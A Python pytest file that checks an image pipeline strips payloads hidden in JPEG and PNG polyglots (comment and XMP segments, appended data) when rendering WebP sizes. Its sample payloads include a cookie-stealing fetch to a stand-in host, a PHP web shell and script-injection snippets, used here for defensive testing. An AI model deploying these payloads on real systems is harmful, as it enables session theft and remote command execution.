"""A picture that is something else as well comes out as a picture only."""

import io
import random
import zipfile
from pathlib import Path

import pytest

from apps.photos import decoding
from tests import factories

SEEDED = random.Random(7)  # noqa: S311


def an_archive() -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("run.txt", SEEDED.randbytes(200))
    return file.getvalue()


PAYLOADS = {
    "html": b"<html><body><script>alert(document.domain)</script></body></html>",
    "js": b"*/=1;fetch('//evil.example/?'+document.cookie);/*",
    "php": b"<?php system($_GET['command']); __halt_compiler(); ?>",
    "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'></svg>",
    "zip": an_archive(),
}


def jpeg_comment(picture: bytes, payload: bytes) -> bytes:
    return picture[:2] + b"\xff\xfe" + (len(payload) + 2).to_bytes(2) + payload + picture[2:]


def jpeg_xmp(picture: bytes, payload: bytes) -> bytes:
    block = b"http://ns.adobe.com/xap/1.0/\0" + payload
    return picture[:2] + b"\xff\xe1" + (len(block) + 2).to_bytes(2) + block + picture[2:]


def behind(picture: bytes, payload: bytes) -> bytes:
    return picture + payload


WAYS = {"comment": (jpeg_comment, "JPEG"), "xmp": (jpeg_xmp, "JPEG"), "jpeg": (behind, "JPEG"), "png": (behind, "PNG")}


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("name", PAYLOADS)
def test_nothing_of_the_payload_is_in_any_size(tmp_path: Path, way: str, name: str) -> None:
    make, kind = WAYS[way]
    payload, path = PAYLOADS[name], tmp_path / "two-in-one"
    path.write_bytes(make(factories.a_picture(kind), payload))
    assert payload in path.read_bytes()
    for size in decoding.render(path, tmp_path).values():
        webp = size.read_bytes()
        assert not any(payload[at : at + 16] in webp for at in range(len(payload) - 15))
